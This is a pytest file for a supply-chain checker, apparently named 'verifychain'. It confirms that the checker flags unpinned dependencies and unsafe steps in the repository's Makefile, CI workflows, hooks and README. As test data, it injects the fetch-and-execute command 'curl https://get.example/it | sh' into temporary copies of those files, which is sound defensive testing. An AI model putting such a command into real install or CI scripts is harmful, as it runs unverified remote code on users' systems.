"""What `make self` finds inside other files, and that it would find a fault there."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest

from tools import own_files
from tools.own_files import FAULTY, Piece

ROOT = Path(__file__).parents[1]
PROGRAM = str(Path(sys.executable).with_name("verifychain"))


def test_what_is_inside() -> None:
    pieces = {piece.name: piece.text for piece in own_files.inside()}
    assert "--require-hashes -r requirements/dev.txt" in pieces["Makefile.sh"]
    assert "hooks/ci-install" in pieces["action.yml.0.sh"]
    assert "hooks/ci-check" in pieces["action.yml.1.sh"]
    assert "$VERIFYCHAIN_COMMIT" in pieces["gitlab-ci.yml.sh"]
    assert sum(1 for name in pieces if name.startswith("README.md.")) > 3
    assert sum(1 for name in pieces if ".md." in name) > 20


def test_blocks_of_a_page() -> None:
    page = f"""\
```sh
verifychain check
```
{FAULTY}```dockerfile
FROM debian
```
```console
$ verifychain check
error: <html>
```
```toml
a = 1
```
"""
    assert list(own_files.blocks("a.md", page)) == [
        Piece("a.md.0.sh", "verifychain check\n"),
        Piece("a.md.1.Dockerfile", "FROM debian\n", faulty=True),
        Piece("a.md.2.sh", "verifychain check\n"),
    ]
    with pytest.raises(ValueError, match="a block of 'cobol'"):
        list(own_files.blocks("a.md", "```cobol\nSTOP RUN.\n```\n"))


@pytest.fixture
def copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The files of this repository that `make self` opens, in a folder that tests may spoil."""
    for name in ("Makefile", "pyproject.toml", "action.yml", "README.md"):
        shutil.copy(ROOT / name, tmp_path / name)
    for name in ("hooks", "requirements", "tools", "tests/peers"):
        shutil.copytree(ROOT / name, tmp_path / name)
    monkeypatch.setattr(own_files, "ROOT", tmp_path)
    return tmp_path


def test_without_a_fault(copy: Path) -> None:
    assert own_files.main(PROGRAM) == 0


@pytest.mark.parametrize(
    ("name", "before", "after"),
    [
        ("Makefile", "--require-hashes -r requirements/dev.txt", "-r dev.txt"),
        ("action.yml", "run: sh ", "run: curl https://get.example/it | sh; sh "),
        ("hooks/gitlab-ci.yml", 'checkout --quiet "$VERIFYCHAIN_COMMIT"', "checkout --quiet main"),
        ("hooks/ci-install", "set -eu\n", "set -eu\ncurl https://get.example/it | sh\n"),
        ("requirements/uv.txt", "--require-hashes", ""),
        ("README.md", "```sh\n", "```sh\ncurl https://get.example/it | sh\n"),
        ("README.md", "```dockerfile\n", FAULTY + "```dockerfile\n"),
    ],
    ids=lambda value: value[:12],
)
def test_a_fault_is_found(copy: Path, name: str, before: str, after: str) -> None:
    text = (copy / name).read_text("utf-8")
    assert before in text
    (copy / name).write_text(text.replace(before, after, 1), "utf-8")
    assert own_files.main(PROGRAM) == 1
